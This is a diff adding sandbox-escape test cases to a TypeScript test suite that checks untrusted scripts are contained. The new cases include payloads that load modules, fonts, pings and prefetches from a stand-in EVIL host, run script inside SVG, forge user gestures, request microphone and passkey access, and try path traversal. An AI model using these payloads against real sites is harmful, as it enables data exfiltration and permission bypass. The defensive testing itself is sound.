@@ -117,6 +117,26 @@ export const reaching: readonly Attack[] = [
   harmless('asks-in-windows', "window.alert(1); if (window.confirm('a') || prompt('b')) return 'ASKED'; print()"),
   harmless('steals-the-nonce', "if ([...document.querySelectorAll('[nonce]')].some((e) => e.nonce)) return 'FOUND'"),
   throws('goes-back-in-history', 'history.back()', /TypeError/),
+  throws('widens-its-origin', "document.domain = 'localhost'", /SecurityError/),
+  throws('shares-a-worker', "new SharedWorker('data:,').port.start(); throw new Error('held')"),
+  refused('imports-another-site', `import('${EVIL}/module.js')`),
+  refused('loads-a-font', `new FontFace('x', 'url(${EVIL}/face.woff2)').load()`),
+  harmless('speaks-on-a-channel', "new BroadcastChannel('ithaki').postMessage('hacked')"),
+  harmless('follows-a-ping', "document.getElementById('link').click()", {
+    html: `<a id="link" href="#x" ping="${EVIL}/ping">a</a>`,
+  }),
+  harmless('moves-its-addresses', "document.getElementById('link').click()", {
+    html: `<base href="${EVIL}/"><a id="link" target="_blank" href="x">a</a><img src="base.png">`,
+  }),
+  harmless('runs-in-a-drawing', '', {
+    html: `<svg><script>parent.postMessage('hacked','*')</script><image href="${EVIL}/image.png"/><use href="${EVIL}/a.svg#x"/></svg>`,
+  }),
+  harmless('loads-ahead', '', {
+    html: `<link rel="prefetch" href="${EVIL}/ahead"><link rel="preload" as="image" href="${EVIL}/ahead.png">`,
+  }),
+  refused('asks-for-our-storage', 'document.requestStorageAccess()'),
+  refused('listens-to-the-room', 'navigator.mediaDevices.getUserMedia({ audio: true })'),
+  refused('asks-for-a-passkey', 'navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8) } })'),
   refused('reads-the-clipboard', 'navigator.clipboard.readText()'),
   refused('fills-the-screen', 'document.documentElement.requestFullscreen()'),
   refused('asks-where-one-is', 'new Promise((y, n) => navigator.geolocation.getCurrentPosition(y, n))', /refused/),
@@ -173,6 +193,18 @@ export const greedy: readonly Attack[] = [
   {
     ...refused('changes-without-a-gesture', `call('${change}', { Fields: {} })`, 'NoGesture: refused'),
     calls: [change],
+  },
+  {
+    ...refused(
+      'invents-a-gesture',
+      `(document.body.click(), dispatchEvent(new PointerEvent('pointerdown')), call('${change}', { Fields: {} }))`,
+      'NoGesture: refused',
+    ),
+    calls: [change],
+  },
+  {
+    ...refused('leaves-a-path-that-it-lists', "call('/api/Services/../user/getcurrent')", 'NotDeclared: refused'),
+    calls: ['/api/Services/{Name}'],
   },
   refused('navigates-without-a-gesture', "(navigate('/about'), Promise.reject({ Code: 'sent' }))", 'sent: refused'),
   refused(
